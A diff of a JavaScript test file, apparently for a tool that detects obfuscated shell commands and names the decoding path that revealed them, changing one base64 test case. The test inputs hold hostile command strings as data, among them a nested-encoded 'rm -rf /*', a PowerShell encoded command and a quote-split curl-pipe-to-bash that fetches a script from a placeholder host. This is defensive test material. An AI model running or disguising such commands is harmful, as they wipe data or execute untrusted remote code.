@@ -208,7 +208,7 @@ test('says by which path a match was read', (t) => {
     [JSON.stringify({ cmd: 'bash -c "id"' }), 'json'],
     [JSON.stringify({ a: JSON.stringify({ b: 'bash -c "id"' }) }), 'json>json'],
     [`echo ${coded} | base64 -d`, 'base64'],
-    [JSON.stringify({ cmd: coded.replace(/(?=.{8}$)/, '"').replace('"', '') }), 'base64'],
+    [JSON.stringify({ cmd: coded }), 'base64'],
     [`powershell -EncodedCommand ${Buffer.from(command, 'utf16le').toString('base64')}`, 'base64>utf16'],
     [encodeURIComponent(encodeURIComponent('rm -rf /*')), 'percent>percent'],
     [JSON.stringify({ cmd: 'c\'\'url -s https://x.test/i.sh | b"a"sh' }), 'json>shell'],
